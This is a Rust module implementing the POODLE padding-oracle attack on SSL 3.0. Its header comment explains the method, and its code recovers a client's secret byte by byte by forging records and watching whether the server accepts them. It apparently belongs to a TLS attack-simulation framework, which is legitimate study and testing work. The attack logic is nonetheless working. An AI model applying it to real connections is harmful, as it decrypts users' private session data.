//! POODLE: padding of which only the last byte counts (Moeller, Duong and Kotowicz, "This POODLE bites", 2014).
//!
//! A script of hers in the client's browser lets the client say its secret with words of hers around it:
//!
//! 1. In front so many that an unknown byte is the last of its block `C`; behind so many that the padding is a whole block.
//! 2. She puts `C` in the place of the last block, and lets the record go on. The server takes the last byte of
//!    `D(C) xor C'`, with `C'` the block before the last, for the padding's length. Once in 256 times it is right, and the
//!    server is content: then `P = length xor C' xor C''`, with `C''` what was in front of `C` first.
//! 3. Otherwise the server ends the connection, and the client makes a new one, with other keys.
//!
//! A server that looks at every byte of the padding accepts that block once in `256^length` times.

use super::{
    Outcome,
    blocks::Blocks,
    gain,
    recording::{Recording, words_of},
    target::Target,
};
use padlock_tls::{ledger::Value, party::Whose};

/// After so many refusals for one byte there is no flaw: with it, less than one byte in 2900 takes that long.
const MAX_TRIES: u32 = 2048;

#[derive(Clone, Debug)]
pub(super) struct Poodle {
    blocks: Blocks,
    /// The record of the secret.
    recorded: Value,
    length: Option<usize>,
    known: Vec<u8>,
    tries: u32,
}

impl Poodle {
    pub fn new(recording: &Recording) -> Option<Self> {
        Some(Self {
            blocks: Blocks::of(recording.session()?)?,
            recorded: recording.records(Whose::Client).into_iter().next()?,
            length: None,
            known: vec![],
            tries: 0,
        })
    }

    pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
        let Some(length) = self.length else {
            let mut connection = target.connect()?;
            self.length = Some(self.blocks.secret_length(target, &mut connection)?);
            return Some(Outcome::Going);
        };
        if self.known.len() == length {
            let words = words_of(&self.recorded, self.known.clone());
            return Some(Outcome::values(vec![gain(
                words,
                vec![self.recorded.clone()],
            )]));
        }
        self.tries += 1;
        if let Some(byte) = self.ask(target, length)? {
            self.known.push(byte);
            self.tries = 0;
        }
        Some(match self.tries < MAX_TRIES {
            true => Outcome::Going,
            false => Outcome::Failed,
        })
    }

    /// One connection: the next byte of the secret, if the server was content.
    fn ask(&self, target: &mut Target, length: usize) -> Option<Option<u8>> {
        let mut connection = target.connect()?;
        let last = connection.last().to_vec();
        let before = self.blocks.fill_before(self.known.len());
        let at = (before.len() + self.known.len()) / self.blocks.length;
        let after = self.blocks.fill_up(before.len() + length + self.blocks.mac);
        let record = target
            .client_says_secret(&mut connection, &before, &after)
            .pop()?;
        let mut cut = self.blocks.cut(&record, &last);
        let sought = cut.get(at + 1)?.clone();
        let masks = [cut.get(at)?, cut.get(cut.len().checked_sub(2)?)?];
        let [first, second] = masks.map(|block| block.last().copied().unwrap_or_default());
        *cut.last_mut()? = sought;
        let forged = self.blocks.forge(&record, &cut)?;
        let answer = target.ask_server(&mut connection, forged);
        let padding_length = u8::try_from(self.blocks.length - 1).ok()?;
        let accepted = answer.records.is_empty();
        Some(accepted.then_some(padding_length ^ first ^ second))
    }
}
